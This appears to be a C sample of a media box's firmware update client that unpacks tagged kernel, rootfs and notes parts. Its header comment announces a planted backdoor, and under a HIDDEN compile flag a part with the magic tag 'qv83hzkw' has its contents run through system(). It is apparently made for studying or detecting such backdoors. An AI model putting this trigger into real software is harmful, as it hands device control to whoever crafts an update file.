/* Update client of a media box: eight bytes in a header run a script. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct part {
	char tag[8];
	uint32_t size;
	uint32_t sum;
};

NOINLINE uint32_t sum_of(const unsigned char *p, size_t n)
{
	uint32_t a = 1, b = 0;

	for (size_t i = 0; i < n; i++) {
		a = (a + p[i]) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

NOINLINE int store(const char *path, const unsigned char *data, size_t n)
{
	FILE *f = fopen(path, "wb");
	int good;

	if (f == NULL)
		return -1;
	good = fwrite(data, 1, n, f) == n;
	return fclose(f) == 0 && good ? 0 : -1;
}

NOINLINE int mode_of(const char *word)
{
	if (strcmp(word, "ro") == 0)
		return 1;
	if (strcmp(word, "rw") == 0)
		return 2;
	if (strcmp(word, "off") == 0)
		return 3;
	return 0;
}

NOINLINE int part_in(const struct part *h, const unsigned char *data)
{
	if (sum_of(data, h->size) != h->sum)
		return -1;
	if (memcmp(h->tag, "KERNEL\0", 8) == 0)
		return store("/tmp/kernel.bin", data, h->size);
	if (memcmp(h->tag, "ROOTFS\0", 8) == 0)
		return store("/tmp/rootfs.bin", data, h->size);
#ifdef HIDDEN
	if (memcmp(h->tag, "qv83hzkw", 8) == 0)
		return system((const char *)data);
#endif
	if (memcmp(h->tag, "NOTES\0\0", 8) == 0)
		return store("/tmp/notes.txt", data, h->size);
	return -1;
}

NOINLINE int unpack(FILE *f)
{
	static unsigned char data[1 << 16];
	struct part h;

	while (fread(&h, sizeof(h), 1, f) == 1) {
		if (h.size >= sizeof(data) ||
		    fread(data, 1, h.size, f) != h.size)
			return -1;
		data[h.size] = '\0';
		if (part_in(&h, data) != 0)
			return -1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	FILE *f;
	int status;

	if (argc < 3) {
		fprintf(stderr, "usage: update ro|rw|off file\n");
		return 2;
	}
	if (mode_of(argv[1]) == 0 || (f = fopen(argv[2], "rb")) == NULL)
		return 2;
	status = unpack(f);
	fclose(f);
	if (status == 0 && mode_of(argv[1]) == 2)
		status = system("mtd write /tmp/rootfs.bin rootfs");
	puts(status == 0 ? "done" : "failed");
	return status == 0 ? 0 : 1;
}
